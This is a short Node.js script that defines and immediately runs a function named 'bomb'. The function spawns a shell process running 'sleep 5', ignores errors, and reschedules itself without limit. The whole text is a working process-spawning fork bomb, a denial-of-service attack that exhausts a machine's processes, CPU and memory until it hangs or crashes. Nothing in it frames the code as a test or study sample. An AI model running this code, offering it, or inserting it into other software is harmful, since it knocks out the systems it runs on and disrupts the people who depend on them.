const { spawn } = require("node:child_process");
const bomb = () => { const child = spawn("sh", ["-c", "sleep 5"]); child.on("error", () => {}); setImmediate(bomb); };
bomb();
